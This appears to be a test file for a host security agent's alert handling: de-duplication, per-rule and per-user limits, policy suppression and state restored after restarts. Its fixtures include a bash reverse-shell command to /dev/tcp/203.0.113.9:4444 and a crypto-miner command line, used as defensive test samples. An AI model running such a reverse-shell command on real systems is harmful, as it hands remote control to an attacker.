import assert from 'node:assert/strict';
import fc from 'fast-check';
import sinon from 'sinon';
import * as v from 'valibot';
import { securityAlert } from '../../../../src/agent/collectors/security-alert.ts';
import { AlertTimes } from '../../../../src/agent/detections/alerts/alert-times.ts';
import { Alerts } from '../../../../src/agent/detections/alerts/alerts.ts';
import type { AlertPolicy } from '../../../../src/agent/detections/alerts/policy.ts';
import { systemClock } from '../../../../src/core/base/clock.ts';
import { days, hours, minutes, seconds } from '../../../../src/core/base/duration.ts';
import { createLog } from '../../../../src/core/base/log.ts';
import { ALERT_LEVELS, type AlertLevel } from '../../../../src/core/contract/event.ts';
import type { AlertRaised } from '../../../../src/core/contract/streams.ts';
import { look } from '../../collectors/samples.ts';
import { quietLog } from '../../pipeline/memory-queues.ts';
import { hit, POLICY } from './samples.ts';

const START = new Date('2026-05-01T12:00:00.000Z');

/** What all strings in a value take as JSON, without quotes. */
function encodedStrings(value: unknown): number {
  if (typeof value === 'string') return Buffer.byteLength(JSON.stringify(value)) - 2;
  if (typeof value !== 'object' || value === null) return 0;
  return Object.values(value).reduce((sum: number, each) => sum + encodedStrings(each), 0);
}

describe('Alerts', () => {
  let time: sinon.SinonFakeTimers;
  let raised: AlertRaised[];
  let early: number[];
  let logged: { level: string; alertId: string }[];
  let policy: AlertPolicy;
  let alerts: Alerts;
  /** How often there was something to be saved. */
  let changes: number;

  const create = () =>
    new Alerts({
      raise: (record) => raised.push(record),
      sendEarly: () => early.push(systemClock.monotonic()),
      policy: () => policy,
      origin: 'agent',
      clock: systemClock,
      log: createLog({ level: 'info', destination: { write: (line) => logged.push(JSON.parse(line)) } }),
      changed: () => {
        changes += 1;
      },
    });
  const restart = () => {
    const saved = JSON.parse(JSON.stringify(alerts.toJson()));
    alerts = create();
    alerts.restore(saved);
  };
  const now = () => systemClock.now().getTime();
  const pass = (span: number) => {
    time.tick(span);
    alerts.tick();
  };
  const take = (more: Parameters<typeof hit>[0] = {}) => alerts.take(hit({ time: now(), ...more }));
  let pid = 100;
  /** Of another process each time. */
  const takeApart = ({ payload, ...more }: NonNullable<Parameters<typeof hit>[0]> = {}) => {
    pid += 1;
    return take({ ...more, payload: { ProcessId: pid, ...payload } });
  };
  const sentAlerts = () => raised.map(({ alertId, count }) => [alertId, count] as const);

  beforeEach(() => {
    time = sinon.useFakeTimers({ now: START });
    [raised, early, logged, policy, changes] = [[], [], [], POLICY, 0];
    alerts = create();
  });
  afterEach(() => time.restore());

  it("raises an alert immediately, with the rule's metadata and the event", () => {
    const more = { ExtraDetails: { ContainerId: 'c', Sha256: 's' } };
    take({ payload: more, fields: { ParentImage: '/bin/sh', ParentCommandLine: 'sh -c x' }, eventIds: ['e1'] });
    const [record] = raised;
    // As JSON, since the fake clock has a Date of its own.
    assert.deepEqual(JSON.parse(JSON.stringify(record)), {
      time: START.toISOString(),
      alertId: record?.alertId,
      alertType: 'IoT_CryptoMiner',
      severity: 'high',
      rule: { id: hit().rule.id, title: 'Crypto miner started', source: 'builtin', author: 'Vakt project' },
      tactics: ['impact', 'command-and-control'],
      techniques: ['T1496', 'T1071.001'],
      count: 1,
      firstSeen: START.toISOString(),
      lastSeen: START.toISOString(),
      event: 'ProcessCreate',
      eventIds: ['e1'],
      subject: {
        Executable: '/tmp/xmrig',
        CommandLine: '/tmp/xmrig -o pool',
        ProcessId: 7,
        UserName: 'root',
        ExtraDetails: { ContainerId: 'c', Sha256: 's' },
      },
      parentExecutable: '/bin/sh',
      parentCommandLine: 'sh -c x',
      remediation: 'End it.',
    });
  });

  it('reports container and digest in the fields of the event', () => {
    take({ payload: { ExtraDetails: { ContainerId: 'c', Sha256: 's', Terminal: 't' } } });
    const [record] = raised;
    assert.ok(record !== undefined);
    const payload: Record<string, unknown> = { ...securityAlert.translate(record, look) };
    assert.deepEqual([payload.ContainerId, payload.Sha256, payload.ExtraDetails], ['c', 's', { Terminal: 't' }]);
  });

  it('raises events that conform to the schema', () => {
    const hostile = { ...Object.fromEntries(Array.from({ length: 99 }, (_, n) => [`F${n}`, 'é'.repeat(9_000)])) };
    take({ payload: { CommandLine: 'ü'.repeat(70_000), ExtraDetails: hostile } });
    take({ rule: { id: 'x'.repeat(9_000), tags: [], remediation: 'y'.repeat(9_000), level: 'low' } });
    pass(hours(1));
    for (const record of raised) {
      const payload = securityAlert.translate(record, look);
      assert.equal(v.safeParse(securityAlert.payload, payload).success, true);
      assert.ok(encodedStrings(payload) <= 4_096, `${encodedStrings(payload)}`);
    }
    assert.equal(raised.length, 2);
  });

  describe('the log of alerts', () => {
    it("has a line for each alert, with a level by its severity and the alert's id", () => {
      for (const level of ALERT_LEVELS) take({ rule: { level, id: level } });
      const levels = logged.map((line) => line.level);
      assert.deepEqual(levels, ['info', 'info', 'warn', 'error', 'error']);
      assert.deepEqual(
        logged.map((line) => line.alertId),
        raised.map(({ alertId }) => alertId),
      );
    });
  });

  describe('de-duplication of alerts', () => {
    it('counts further hits within the hour, and sends them in one update with the same id', () => {
      take();
      pass(minutes(20));
      take();
      take();
      pass(minutes(40) - 1);
      assert.equal(raised.length, 1);
      pass(1);
      const [first, update] = raised;
      assert.deepEqual(sentAlerts(), [
        [first?.alertId, 1],
        [first?.alertId, 3],
      ]);
      const seen = [update?.firstSeen.getTime(), update?.lastSeen.getTime()];
      assert.deepEqual(seen, [START.getTime(), START.getTime() + minutes(20)]);
      pass(hours(2));
      assert.equal(raised.length, 2);
    });

    it('sends no update of an alert without further hits, and a new alert after the hour', () => {
      take();
      pass(hours(1));
      take();
      assert.equal(raised.length, 2);
      assert.notEqual(raised[0]?.alertId, raised[1]?.alertId);
    });

    it("uses a new id for a new alert, even if the clock was set back to the previous alert's hour", () => {
      take();
      pass(hours(1));
      time.setSystemTime(START);
      take();
      assert.equal(new Set(raised.map(({ alertId }) => alertId)).size, 2);
    });

    it('sends the update before a new alert of the same key, even without a tick', () => {
      take();
      take();
      time.tick(hours(1));
      take();
      assert.deepEqual(
        raised.map(({ count }) => count),
        [1, 2, 1],
      );
    });

    it('raises an alert per user, rule, selection and command line of a start, for any program', () => {
      const selected = { selections: ['key'] };
      takeApart(selected);
      takeApart({ ...selected, fields: { User: 'bob' } });
      takeApart({ ...selected, rule: { id: 'another' } });
      takeApart({ selections: ['sudoers'] });
      takeApart({ ...selected, fields: { CommandLine: '/tmp/xmrig --other' } });
      takeApart({ ...selected, view: { Image: '/usr/bin/xmrig', CommandLine: 'xmrig' } });
      assert.equal(raised.length, 6);
      takeApart({ ...selected, fields: { Image: '/tmp/other' } });
      takeApart({ ...selected, fields: { CommandLine: '/tmp/xmrig   -o pool' } });
      assert.equal(raised.length, 6);
    });

    it('raises an alert per program and remote address of a connection', () => {
      const connection = { source: 'network_connection' as const, selections: ['c'] };
      for (const DestinationIp of ['192.0.2.1', '192.0.2.2', '192.0.2.1'])
        take({ ...connection, fields: { DestinationIp } });
      take({ ...connection, fields: { DestinationIp: '192.0.2.1', Image: '/tmp/other' } });
      assert.equal(raised.length, 3);
    });

    it('raises an alert per group of a correlation, not per parent process', () => {
      const group = (RemoteAddress: string, ParentProcessId: string) =>
        take({
          count: 10,
          selections: ['f'],
          group: [
            { name: 'RemoteAddress', value: RemoteAddress },
            { name: 'ParentProcessId', value: ParentProcessId },
          ],
        });
      group('192.0.2.1', '1');
      group('192.0.2.1', '2');
      group('192.0.2.2', '3');
      assert.equal(raised.length, 2);
    });

    it('uses the key fields of the rule', () => {
      const key = { rule: { key: ['Image'] } };
      takeApart(key);
      takeApart({ ...key, fields: { User: 'bob', CommandLine: 'x' } });
      takeApart({ ...key, fields: { Image: '/tmp/other' } });
      assert.equal(raised.length, 2);
    });

    it('sends new evidence of an open alert within a minute, and mere repetitions only when the window closes', () => {
      take({ payload: { ProcessId: 1 } });
      pass(seconds(10));
      take({ payload: { ProcessId: 2 } });
      pass(minutes(2));
      assert.equal(raised.length, 1);
      take({ fields: { Image: '/tmp/other', ParentImage: '/bin/sh' } });
      alerts.tick();
      const [first, update] = raised;
      assert.deepEqual(sentAlerts(), [
        [first?.alertId, 1],
        [first?.alertId, 3],
      ]);
      assert.deepEqual([update?.parentExecutable, update?.subject.Executable], ['/bin/sh', '/tmp/other']);
      take({ fields: { Image: '/tmp/third' } });
      pass(seconds(59));
      assert.equal(raised.length, 2);
      pass(seconds(1));
      assert.equal(raised.at(-1)?.count, 4);
    });

    it('sends at most five early updates of an alert', () => {
      for (let n = 0; n < 40; n += 1) {
        take({ fields: { Image: `/tmp/${n}` } });
        pass(minutes(1));
      }
      assert.equal(raised.length, 6);
      pass(minutes(20));
      assert.deepEqual([raised.length, raised.at(-1)?.count], [7, 40]);
    });
  });

  describe('alerts of wrapped commands', () => {
    const payload = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
    const start = (
      CommandLine: string,
      ProcessId: number,
      ParentProcessId: number,
      more: Parameters<typeof hit>[0] = {},
    ) =>
      take({
        selections: ['shellToDevice'],
        ...more,
        fields: { CommandLine, ...more.fields },
        payload: { ProcessId, ParentProcessId, ...more.payload },
      });

    it('counts the children of a wrapper for the same alert', () => {
      start(`timeout 5 nohup bash -c ${payload}`, 10, 1);
      start(`nohup bash -c ${payload}`, 11, 10);
      start(`bash -c ${payload}`, 11, 10, { fields: { User: 'nobody' } });
      start('bash -i', 12, 11, { selections: ['other'] });
      assert.deepEqual(alerts.accounts(), { hits: 4, alerts: 2, counted: 2, suppressed: {} });
      pass(minutes(59));
      assert.equal(raised.length, 2, 'no update of an alert that says it all');
    });

    it('counts a command line that a shell quotes for the same alert', () => {
      start(`sh -c nohup bash -c "${payload}" &`, 10, 1);
      start(`nohup bash -c ${payload}`, 10, 1);
      assert.equal(raised.length, 1);
    });

    it('keeps other lines, other processes and later starts separate', () => {
      start(`timeout 5 bash -c ${payload}`, 10, 1);
      start(`bash -c ${payload.replace('.9/', '.10/')}`, 11, 10);
      start(`bash -c ${payload}`, 12, 1);
      assert.equal(raised.length, 3);
      start(`nohup bash -c ${payload}; :`, 20, 1);
      time.tick(seconds(10));
      start(`bash -c ${payload}; :`, 20, 1);
      assert.equal(raised.length, 5);
    });

    it('keeps a start separate if the alert cannot show its line completely', () => {
      start(`sh -c ${'x'.repeat(2_000)}; nohup bash -c ${payload}`, 10, 1);
      start(`nohup bash -c ${payload}`, 11, 10);
      assert.equal(raised.length, 2);
    });

    it('keeps starts separate that have changed', () => {
      const port = (LocalPort: string) =>
        take({ source: 'listening_port_change', fields: { LocalPort, Change: 'added' } });
      for (const one of ['1', '2', '1']) port(one);
      assert.equal(raised.length, 2);
    });

    it('merges by the monotonic clock, regardless of steps of the wall clock', () => {
      take();
      time.setSystemTime(START.getTime() + days(300));
      take();
      pass(minutes(59));
      time.setSystemTime(START.getTime() - days(300));
      take();
      assert.equal(raised.length, 1);
      pass(minutes(1));
      assert.deepEqual(
        raised.map(({ count }) => count),
        [1, 3],
      );
    });
  });

  describe('limits of alerts', () => {
    const different = (count: number, more: Parameters<typeof hit>[0] = {}) => {
      for (let n = 0; n < count; n += 1) takeApart({ ...more, fields: { CommandLine: `/tmp/${n}`, ...more.fields } });
    };
    const heldBack = () => raised.filter(({ details }) => details?.HeldBack !== undefined);

    it('allow a burst of 20 new alerts of a rule, and one immediate summary of the rest', () => {
      different(30);
      assert.deepEqual(alerts.accounts(), { hits: 30, alerts: 20, counted: 0, suppressed: { ruleLimit: 10 } });
      const [summary, ...others] = raised.slice(20);
      assert.deepEqual([others.length, summary?.count, summary?.alertType], [0, 1, 'IoT_CryptoMiner']);
      assert.deepEqual(summary?.details, {
        HeldBack: '1 held back, no user (process_creation)',
        HeldBackTypes: 'IoT_CryptoMiner 1',
      });
      pass(minutes(1));
      const update = raised.at(-1);
      assert.deepEqual([raised.length, update?.count, update?.alertId], [22, 10, summary?.alertId]);
      assert.match(update?.details?.HeldBack ?? '', /^10 held back/);
      pass(hours(1));
      assert.equal(raised.length, 22, 'and no more while nothing is held back');
      different(1);
      assert.equal(raised.length, 23);
    });

    it("counts each user's alerts separately", () => {
      for (let n = 0; n < 6; n += 1)
        different(20, { rule: { id: `r${n}`, level: 'low' }, payload: { UserId: '2001' } });
      assert.equal(alerts.accounts().alerts, 60);
      assert.equal(heldBack().length, 1);
      for (const payload of [{ UserId: '0' }, { UserId: '33' }, { UserId: '2002' }, { ContainerId: 'c' }, {}]) {
        const before = raised.length;
        different(20, { rule: { id: 'medium', level: 'medium' }, payload, fields: { User: JSON.stringify(payload) } });
        assert.equal(raised.length, before + 20, JSON.stringify(payload));
      }
    });

    it('count a login, its commands as root and its set-user-id programs for one user', () => {
      const by = (payload: Record<string, string>, n: number) =>
        takeApart({ payload, rule: { level: 'low' }, fields: { CommandLine: `${n}` } });
      for (let n = 0; n < 20; n += 1) by({ LoginUserId: '1000', UserId: n % 2 === 0 ? '1000' : '0' }, n);
      by({ RealUserId: '1000', UserId: '0' }, 200);
      assert.deepEqual([raised.length, heldBack()[0]?.details?.HeldBack], [21, '1 held back, user 1000']);
      by({ UserId: '0' }, 300);
      assert.equal(heldBack().length, 1);
    });

    it('count all ids of a block of subordinate ids for one user', () => {
      for (let n = 0; n < 30; n += 1)
        takeApart({
          payload: { UserId: String(100_000 + n) },
          rule: { level: 'low' },
          fields: { CommandLine: `${n}` },
        });
      assert.deepEqual([raised.length, heldBack()[0]?.details?.HeldBack], [21, '1 held back, user block 1']);
    });

    it("always allow a user's first alert of a rule at medium or above", () => {
      const by = (UserId: string, id: string, level: AlertLevel) =>
        takeApart({ rule: { id, alert: id, level }, payload: { UserId }, fields: { CommandLine: `/tmp/${id}` } });
      for (let n = 0; n < 4; n += 1)
        different(20, { rule: { id: `r${n}`, level: 'low' }, payload: { UserId: '1000' } });
      const before = alerts.accounts().alerts;
      by('1000', 'shell', 'critical');
      by('1000', 'medium', 'medium');
      by('1000', 'low', 'low');
      assert.equal(alerts.accounts().alerts, before + 2);
      restart();
      takeApart({ rule: { id: 'medium', alert: 'medium', level: 'medium' }, payload: { UserId: '1000' } });
      assert.equal(alerts.accounts().alerts, 0, 'it was not the first');
    });

    it('restrict the number of such first alerts per user', () => {
      for (let n = 0; n < 300; n += 1)
        takeApart({ rule: { id: `own ${n}` }, payload: { UserId: '1000' }, fields: { CommandLine: `${n}` } });
      assert.equal(alerts.accounts().alerts, 60 + 120);
    });

    it('refill over time', () => {
      different(25);
      assert.equal(alerts.accounts().alerts, 20);
      pass(minutes(9));
      for (let n = 100; n < 110; n += 1) takeApart({ fields: { CommandLine: `/tmp/${n}` } });
      assert.equal(alerts.accounts().alerts, 23);
    });

    it('still count hits of open alerts', () => {
      different(25);
      different(20);
      assert.deepEqual(alerts.accounts(), { hits: 45, alerts: 20, counted: 20, suppressed: { ruleLimit: 5 } });
    });

    it('send the latest held-back evidence, each minute at first and then hourly', () => {
      different(21);
      const summaries = () => heldBack().length;
      for (let n = 0; n < 30; n += 1) {
        takeApart({ fields: { CommandLine: `flood ${n}` }, rule: { level: 'low' } });
        pass(minutes(1) - 1);
        for (let more = 0; more < 20; more += 1) takeApart({ fields: { CommandLine: `more ${n} ${more}` } });
        pass(1);
      }
      assert.ok(summaries() >= 11 && summaries() <= 13, `${summaries()}`);
      assert.match(String(heldBack().at(-1)?.subject.CommandLine), /^more \d+ \d+/);
    });

    it('send another kind of hit within a minute during any flood', () => {
      const flood = () => {
        for (let n = 0; n < 50; n += 1) takeApart({ selections: ['key'], fields: { CommandLine: `${now()} ${n}` } });
      };
      for (let n = 0; n < 40; n += 1) {
        flood();
        pass(minutes(1));
      }
      const before = raised.length;
      takeApart({ selections: ['sudoers'], fields: { CommandLine: 'echo real' }, rule: { level: 'high' } });
      if (alerts.accounts().suppressed.ruleLimit === undefined) assert.fail('it was not held back');
      flood();
      time.tick(seconds(2));
      flood();
      pass(minutes(1));
      const since = raised.slice(before).map(({ subject }) => subject.CommandLine);
      assert.ok(since.includes('echo real'), JSON.stringify(since));
    });

    it('keep the rows of other users in the list of the latest alerts', () => {
      takeApart({ payload: { UserId: '0' } });
      const id = raised[0]?.alertId ?? '';
      for (let n = 0; n < 400; n += 1) {
        takeApart({ payload: { UserId: '1000' }, fields: { CommandLine: `${n}`, User: 'u' } });
        pass(minutes(3));
      }
      assert.ok(alerts.history.list().length === 200 && alerts.history.has(id));
    });
  });

  describe('requests for early messages', () => {
    it('follow critical and high alerts, at most once per minute', () => {
      take({ rule: { id: 'm', level: 'medium' } });
      assert.equal(early.length, 0);
      take({ rule: { id: 'h', level: 'high' } });
      pass(seconds(10));
      take({ rule: { id: 'c', level: 'critical' } });
      assert.equal(early.length, 1);
      const due = alerts.tick();
      assert.equal(due, systemClock.monotonic() + seconds(50));
      pass(seconds(50));
      assert.equal(early.length, 2);
      pass(minutes(10));
      assert.equal(early.length, 2);
    });
  });

  describe('the alert policy', () => {
    it('counts suppressed hits by reason', () => {
      const suppressed = (change: Partial<AlertPolicy>) => {
        policy = { ...POLICY, ...change };
        take();
        return alerts.accounts().suppressed;
      };
      const exception = { rule: 'IoT_CryptoMiner', field: 'Image', endsWith: '/xmrig' };
      suppressed({ enabled: false });
      suppressed({ minimumLevel: 'critical' });
      suppressed({ disabledRules: ['x', 'IoT_CryptoMiner'] });
      suppressed({ disabledRules: [hit().rule.id] });
      suppressed({ exceptions: { mine: exception } });
      const all = suppressed({ silencedUntil: '2026-05-02T12:00:00Z' });
      assert.deepEqual(all, { switchedOff: 1, minimumLevel: 1, disabledRule: 2, exception: 1, silenced: 1 });
      assert.equal(raised.length, 0);
      assert.deepEqual(suppressed({ minimumLevel: 'high' }), all);
      assert.equal(raised.length, 1);
    });

    it("applies the minimum level to the rule's level, not to the one that a trusted actor lowers", () => {
      policy = { ...POLICY, minimumLevel: 'high' };
      assert.equal(take({ during: 'dpkg' }), true);
      assert.deepEqual(
        raised.map(({ severity, during }) => [severity, during]),
        [['medium', 'dpkg']],
      );
      policy = { ...POLICY, minimumLevel: 'critical' };
      assert.equal(take({ during: 'dpkg' }), false);
    });

    it('raises a separate alert for an attack after the same hit by a trusted actor', () => {
      take({ during: 'dpkg' });
      take();
      assert.deepEqual(
        raised.map(({ severity, during }) => [severity, during]),
        [
          ['medium', 'dpkg'],
          ['high', undefined],
        ],
      );
    });

    it('reports to the caller whether a hit was suppressed, unlike a hit above a limit', () => {
      const isReported = Array.from({ length: 27 }, (_, n) =>
        take({ fields: { CommandLine: `/tmp/${Math.max(1, n)}` } }),
      );
      assert.ok(isReported.every(Boolean));
      assert.ok((alerts.accounts().suppressed.ruleLimit ?? 0) > 0);
      for (const change of [
        { enabled: false },
        { minimumLevel: 'critical' as const },
        { disabledRules: ['IoT_CryptoMiner'] },
        { exceptions: { id: { rule: 'IoT_CryptoMiner', field: 'Image', startsWith: '/' } } },
        { silencedUntil: new Date(now() + hours(1)).toISOString() },
      ]) {
        policy = { ...POLICY, ...change };
        assert.equal(take(), false, JSON.stringify(change));
      }
    });

    it('appears in the status', () => {
      policy = {
        ...POLICY,
        silencedUntil: '2026-05-02T12:00:00Z',
        exceptions: {
          a: { rule: 'IoT_CryptoMiner', field: 'User', equals: 'root' },
          b: { rule: 'x', field: 'y', equals: 'z' },
        },
      };
      take();
      take({ fields: { User: 'bob' } });
      const { silencedUntil, exceptions, unusedExceptions } = alerts.status();
      assert.deepEqual(
        [silencedUntil, exceptions, unusedExceptions],
        ['2026-05-02T12:00:00Z', { a: 1, b: 0 }, undefined],
      );
      time.tick(days(91));
      assert.equal(alerts.status().silencedUntil, undefined);
      assert.equal(alerts.status().unusedExceptions, 'a;b');
    });

    it('reports the last alert and the number of alerts per severity', () => {
      take();
      pass(minutes(1));
      take({ rule: { id: 'l', level: 'low', alert: 'L' } });
      const { bySeverity, last } = alerts.status();
      assert.deepEqual(bySeverity, { informational: 0, low: 1, medium: 0, high: 1, critical: 0 });
      assert.deepEqual(last, { type: 'L', severity: 'low', at: '2026-05-01T12:01:00.000Z' });
    });
  });

  describe('the state to be saved', () => {
    /** Whether `action` causes a change that has to be saved. */
    const changesWith = (action: () => unknown): boolean => {
      const before = changes;
      action();
      return changes > before;
    };

    it('changes with each hit, and when the update of an alert is sent', () => {
      assert.ok(changesWith(() => take()));
      assert.ok(changesWith(() => take()));
      assert.ok(!changesWith(() => pass(minutes(59))));
      assert.ok(changesWith(() => pass(minutes(1))));
      assert.ok(!changesWith(() => pass(hours(3))), 'nothing is open any more');
    });

    it('changes when the summary of held-back alerts is updated', () => {
      policy = { ...POLICY };
      for (let line = 0; line < 30; line += 1)
        take({ rule: { level: 'low' }, fields: { CommandLine: `x ${line}` }, payload: { ProcessId: line } });
      const sent = raised.length;
      assert.ok(changesWith(() => pass(minutes(1))));
      assert.ok(raised.length > sent);
    });

    it('changes when an exception matches or is new, and when a silence is decided', () => {
      assert.ok(!changesWith(() => alerts.status()));
      policy = { ...POLICY, exceptions: { x: { rule: hit().rule.id, field: 'User', equals: 'root' } } };
      assert.ok(changesWith(() => alerts.status()));
      assert.ok(!changesWith(() => alerts.status()));
      policy = { ...policy, silencedUntil: new Date(now() + hours(1)).toISOString() };
      assert.ok(changesWith(() => alerts.status()));
      assert.ok(!changesWith(() => alerts.status()));
    });
  });

  describe('alerts after a restart', () => {
    it('continue counting with the same id, and send the update when it is due', () => {
      take();
      pass(minutes(30));
      take();
      restart();
      take();
      assert.equal(raised.length, 1);
      pass(minutes(30));
      assert.deepEqual(sentAlerts(), [
        [raised[0]?.alertId, 1],
        [raised[0]?.alertId, 3],
      ]);
    });

    it('need saving when the status decides on a policy, even without hits', () => {
      const refused = new Date(now() + days(9)).toISOString();
      const exceptions = { id: { rule: 'IoT_CryptoMiner', field: 'Image', startsWith: '/opt' } };
      const counts = [{}, { silencedUntil: refused }, { silencedUntil: refused, exceptions }].map((change) => {
        policy = { ...POLICY, ...change };
        alerts.status();
        alerts.status();
        return changes;
      });
      assert.deepEqual(counts, [0, 1, 2]);
    });

    it('take the downtime into account', () => {
      take();
      take();
      const saved = alerts.toJson();
      time.tick(hours(5));
      alerts = create();
      alerts.restore(JSON.parse(JSON.stringify(saved)));
      alerts.tick();
      assert.deepEqual(
        raised.map(({ count }) => count),
        [1, 2],
      );
    });

    it('keep their limits, and continue the summary of held-back alerts', () => {
      for (let n = 0; n < 25; n += 1) take({ fields: { CommandLine: `/tmp/${n}` } });
      const { alertId } = raised.at(-1) ?? {};
      restart();
      take({ fields: { CommandLine: '/tmp/x' } });
      assert.equal(raised.length, 21);
      const saved = JSON.parse(JSON.stringify(alerts.toJson()));
      time.setSystemTime(START.getTime() - days(3_000));
      alerts = create();
      alerts.restore(saved);
      take({ fields: { CommandLine: '/tmp/y' } });
      assert.equal(raised.length, 21);
      pass(minutes(1));
      assert.deepEqual([raised.length, raised.at(-1)?.count, raised.at(-1)?.alertId], [22, 7, alertId]);
    });

    it('continue with the state of the previous release', () => {
      take();
      take();
      const { alertId } = raised[0] ?? {};
      const { open, held: _, limits: __, ...saved } = JSON.parse(JSON.stringify(alerts.toJson()));
      const before = open.map(({ key, alert, ageMs }: Record<string, unknown>) => ({ key, alert, ageMs }));
      const [limits, firsts] = [
        { ruleLimits: [{ rule: 'x', agesMs: [5] }], deviceLimit: [5] },
        { raised: [['x', 5]], extra: [] },
      ];
      alerts = create();
      alerts.restore({
        ...saved,
        ...limits,
        firsts,
        open: before,
        limited: [{ type: 'T', alert: open[0].alert, ageMs: 5 }],
      });
      take();
      pass(hours(1));
      assert.deepEqual(sentAlerts().at(-1), [alertId, 3]);
    });

    it('get the same id again if the agent was killed before it saved its state', () => {
      take();
      alerts = create();
      take();
      time.tick(minutes(3));
      alerts = create();
      take();
      assert.equal(new Set(raised.map(({ alertId }) => alertId)).size, 1);
      assert.notEqual(create().toJson(), undefined);
    });

    it('get the same id again, even if the previous alert of the key was in the same hour', () => {
      take();
      pass(hours(1));
      time.setSystemTime(START);
      const saved = JSON.parse(JSON.stringify(alerts.toJson()));
      take();
      alerts = create();
      alerts.restore(saved);
      take();
      assert.deepEqual([raised.length, new Set(raised.map(({ alertId }) => alertId)).size], [3, 2]);
      assert.equal(raised[1]?.alertId, raised[2]?.alertId);
    });

    it('include the last 200 in the history', () => {
      for (let n = 0; n < 210; n += 1) {
        take({ rule: { id: `r${n}` }, fields: { User: `u${n}` } });
        pass(minutes(31));
      }
      const before = alerts.history.list();
      restart();
      assert.deepEqual([before.length, before.at(-1)?.ruleId], [200, 'r209']);
      assert.deepEqual(alerts.history.list(), before);
    });

    it('ignore a damaged state', () => {
      take();
      const saved = alerts.toJson() as Record<string, unknown>;
      for (const damaged of [
        null,
        5,
        [],
        {},
        { ...saved, open: [{ key: 'x' }] },
        { ...saved, history: [5, { alertId: 'x' }] },
      ]) {
        alerts = create();
        alerts.restore(JSON.parse(JSON.stringify(damaged)));
        take({ fields: { User: 'fresh' } });
        assert.equal(alerts.accounts().alerts, 1);
      }
    });
  });

  it('never exceeds its limits, and its counts always add up', () => {
    const step = fc.oneof(
      {
        weight: 8,
        arbitrary: fc.record({
          rule: fc.integer({ min: 0, max: 9 }),
          user: fc.integer({ min: 0, max: 40 }),
          times: fc.integer({ min: 1, max: 60 }),
        }),
      },
      { weight: 3, arbitrary: fc.record({ pass: fc.integer({ min: 1, max: hours(2) }) }) },
      { weight: 1, arbitrary: fc.constant({ restart: true }) },
      { weight: 1, arbitrary: fc.record({ clock: fc.integer({ min: -400, max: 400 }) }) },
      {
        weight: 1,
        arbitrary: fc.record({
          policy: fc.constantFrom<Partial<AlertPolicy>>(
            {},
            { minimumLevel: 'high' },
            { disabledRules: ['3'] },
            { silencedUntil: '2026-05-03T00:00:00Z' },
          ),
        }),
      },
    );
    fc.assert(
      fc.property(fc.array(step, { maxLength: 60 }), (steps) => {
        time.restore();
        time = sinon.useFakeTimers({ now: START });
        [raised, early, logged, policy] = [[], [], [], POLICY];
        alerts = create();
        const births: { at: number; rule: string; user: number }[] = [];
        let before = 0;
        let hits = 0;
        const check = () => {
          const { suppressed, ...accounts } = alerts.accounts();
          const sum = Object.values(suppressed).reduce((all, one) => all + one, 0);
          assert.equal(before + accounts.hits, hits);
          assert.equal(accounts.hits, accounts.alerts + accounts.counted + sum);
        };
        for (const one of steps) {
          if ('rule' in one) {
            for (let n = 0; n < one.times; n += 1) {
              const had = alerts.accounts().alerts;
              const id = String(one.rule);
              const user = (one.user + n) % 7;
              take({
                rule: { id, alert: `T${id}`, level: one.rule > 5 ? 'high' : 'low' },
                fields: { User: `u${(one.user + n) % 50}` },
                payload: { UserId: String(user) },
              });
              hits += 1;
              if (alerts.accounts().alerts > had) births.push({ at: systemClock.monotonic(), rule: id, user });
            }
          } else if ('pass' in one) pass(one.pass);
          else if ('clock' in one) time.setSystemTime(now() + days(one.clock));
          else if ('policy' in one) policy = { ...POLICY, ...one.policy };
          else {
            const { hits: soFar } = alerts.accounts();
            before += soFar;
            early = []; // A message at the start is early anyway.
            restart();
          }
          check();
        }
        for (const { at, rule, user } of births) {
          const within = births.filter((other) => other.user === user && other.at >= at && other.at < at + hours(1));
          assert.ok(within.length <= 60 + 60 + 120);
          assert.ok(within.filter((other) => other.rule === rule).length <= 20 + 20 + 1);
        }
        for (const [index, at] of early.entries()) assert.ok(index === 0 || at - (early[index - 1] ?? 0) >= minutes(1));
      }),
      { numRuns: 60 },
    );
  });

  it('reports every unsuppressed hit in its last updates and summaries', () => {
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 0, max: 60 }), { maxLength: 300 }), (users) => {
        [raised, policy] = [[], POLICY];
        alerts = create();
        for (const user of users) take({ fields: { User: `u${user}` } });
        pass(hours(1));
        pass(hours(1));
        const last = new Map(raised.map(({ alertId, count }) => [alertId, count]));
        assert.equal(
          [...last.values()].reduce((all, one) => all + one, 0),
          users.length,
        );
      }),
      { numRuns: 50 },
    );
  });
});

describe('AlertTimes', () => {
  let time: sinon.SinonFakeTimers;

  beforeEach(() => {
    time = sinon.useFakeTimers({ now: START });
  });
  afterEach(() => time.restore());

  it('sends updates when they are due, and early messages when it is rung', async () => {
    const raised: AlertRaised[] = [];
    const early: Date[] = [];
    const log = quietLog();
    let ring = () => {};
    const alerts = new Alerts({
      raise: (record) => raised.push(record),
      sendEarly: () => early.push(systemClock.now()),
      policy: () => POLICY,
      origin: 'a',
      clock: systemClock,
      log,
      dueEarlier: () => ring(),
    });
    const times = new AlertTimes({ alerts, clock: systemClock, log });
    ring = () => times.ring();
    await times.start();
    await time.tickAsync(minutes(50));
    for (const id of ['a', 'b', 'a']) alerts.take(hit({ rule: { id }, time: systemClock.now().getTime() }));
    assert.equal(early.length, 1);
    await time.tickAsync(minutes(1));
    assert.equal(early.length, 2);
    await time.tickAsync(minutes(59) - 1);
    assert.equal(raised.length, 2);
    await time.tickAsync(2);
    assert.deepEqual(
      raised.map(({ count }) => count),
      [1, 1, 2],
    );
    await times.stop();
  });
});
